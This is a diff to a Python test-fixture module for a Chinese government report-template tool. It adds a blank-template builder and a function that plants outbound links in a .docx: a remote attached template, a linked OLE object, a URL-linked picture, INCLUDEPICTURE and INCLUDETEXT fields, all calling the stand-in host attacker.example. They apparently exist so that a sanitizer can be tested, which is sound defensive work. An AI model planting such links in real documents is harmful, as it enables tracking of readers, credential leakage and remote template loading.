@@ -11,8 +11,10 @@ from __future__ import annotations
 import functools
 import io
 import struct
+import tempfile
 import zipfile
 import zlib
+from pathlib import Path
 from typing import Callable, Mapping, Sequence
 
 import docx
@@ -20,8 +22,11 @@ from docx.opc.constants import RELATIONSHIP_TYPE as RT
 from docx.opc.packuri import PackURI
 from docx.opc.part import Part
 from docx.oxml import parse_xml
+from docx.oxml.ns import qn
 from docx.text.paragraph import Paragraph as DocxParagraph
 from PIL import Image
+
+from validators.template import BODY_PLACEHOLDERS, SIGN_OFF_LINE, TITLE_PLACEHOLDER, write_template
 
 SIGN_OFF = {"审核领导": "李四", "撰稿人": "张三", "手机号": "13912345678"}
 TITLE = "昌吉市生态环境局开展春季大气污染防治专项执法检查"
@@ -213,6 +218,37 @@ def _add_picture(document: docx.document.Document, place: str) -> None:
         add_ole_object(document.add_paragraph(), png)
     else:
         raise ValueError(place)
+
+
+def make_blank_template(
+    fields: Mapping[str, str] | None = SIGN_OFF,
+    title: str | None = None,
+    paragraphs: Sequence[str] | None = None,
+    notes_as_text: bool = False,
+) -> bytes:
+    """The file `baosong template` writes, as a unit sends it back: the sign-off line filled in
+    with `fields`, the placeholder title and body replaced only when given. notes_as_text: the
+    填报须知 box taken out of its content control (as when an editor drops the control)."""
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "信息报送模板.docx"
+        write_template(path)
+        document = docx.Document(str(path))
+    for paragraph in document.paragraphs:
+        if paragraph.text == TITLE_PLACEHOLDER and title is not None:
+            paragraph.runs[0].text = title
+        elif paragraph.text == SIGN_OFF_LINE and fields is not None:
+            paragraph.text = _sign_off_line(fields, "：")
+    if paragraphs is not None:
+        placeholders = [p for p in document.paragraphs if p.text in BODY_PLACEHOLDERS]
+        for text in paragraphs:
+            placeholders[0].insert_paragraph_before(text)
+        for placeholder in placeholders:
+            placeholder._p.getparent().remove(placeholder._p)
+    if notes_as_text:
+        for control in document.element.body.iterchildren(qn("w:sdt")):
+            control.addprevious(control.find(qn("w:sdtContent"))[0])
+            control.getparent().remove(control)
+    return docx_bytes(document)
 
 
 def docx_bytes(document: docx.document.Document) -> bytes:
@@ -613,3 +649,42 @@ def _directory_entry(
         "<64sHBBIII16sIQQIQ",
         encoded, len(encoded), kind, color, left, right, child, b"\x00" * 16, 0, 0, 0, start, size,
     )
+
+
+# --- links to the outside world (what the annotated copy must not carry back) -----------------
+
+REMOTE = "attacker.example"
+ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+
+
+def add_external_links(document: docx.document.Document) -> None:
+    """Every way a .docx reaches outside when opened or clicked: a remote attached template, a linked
+    OLE object, a picture linked by URL, a hyperlink, and INCLUDEPICTURE / INCLUDETEXT fields (the
+    first split over two runs, as Word writes long field codes)."""
+    part = document.part
+    settings = part._settings_part
+    template_id = settings.relate_to(f"http://{REMOTE}/normal.dotm", ATTACHED_TEMPLATE, is_external=True)
+    settings.element.insert(0, parse_xml(f'<w:attachedTemplate {_NAMESPACES} r:id="{template_id}"/>'))
+    ole_id = part.relate_to(f"file://{REMOTE}/share/data.xlsx", RT.OLE_OBJECT, is_external=True)
+    image_id = part.relate_to(f"http://{REMOTE}/pixel.png", RT.IMAGE, is_external=True)
+    link_id = part.relate_to(f"http://{REMOTE}/page", RT.HYPERLINK, is_external=True)
+    paragraph = document.add_paragraph("详见附表：")
+    for xml in (
+        f"<w:r {_NAMESPACES}><w:object>{_PICTURE_SHAPETYPE}"
+        '<v:shape id="_x0000_i1030" type="#_x0000_t75" style="width:48pt;height:36pt" o:ole=""/>'
+        f'<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1030" r:id="{ole_id}" '
+        'UpdateMode="Always"><o:LinkType>EnhancedMetafile</o:LinkType></o:OLEObject></w:object></w:r>',
+        f"<w:r {_NAMESPACES}><w:drawing><wp:inline><wp:extent cx=\"609600\" cy=\"457200\"/>"
+        f"<wp:docPr id=\"90\" name=\"Picture 90\"/>{_graphic_xml(image_id, 90).replace('r:embed', 'r:link')}"
+        "</wp:inline></w:drawing></w:r>",
+        f'<w:hyperlink {_NAMESPACES} r:id="{link_id}"><w:r><w:t>网上原文</w:t></w:r></w:hyperlink>',
+        f'<w:r {_NAMESPACES}><w:fldChar w:fldCharType="begin"/></w:r>',
+        f'<w:r {_NAMESPACES}><w:instrText xml:space="preserve"> INCLUDEPIC</w:instrText></w:r>',
+        f'<w:r {_NAMESPACES}><w:instrText xml:space="preserve">TURE "http://{REMOTE}/track.png" \\d </w:instrText></w:r>',
+        f'<w:r {_NAMESPACES}><w:fldChar w:fldCharType="separate"/></w:r>',
+        f"<w:r {_NAMESPACES}><w:t>现场图</w:t></w:r>",
+        f'<w:r {_NAMESPACES}><w:fldChar w:fldCharType="end"/></w:r>',
+        f'<w:fldSimple {_NAMESPACES} w:instr=" INCLUDETEXT &quot;\\\\{REMOTE}\\share\\x.docx&quot; ">'
+        "<w:r><w:t>引用段落</w:t></w:r></w:fldSimple>",
+    ):
+        paragraph._p.append(parse_xml(xml))
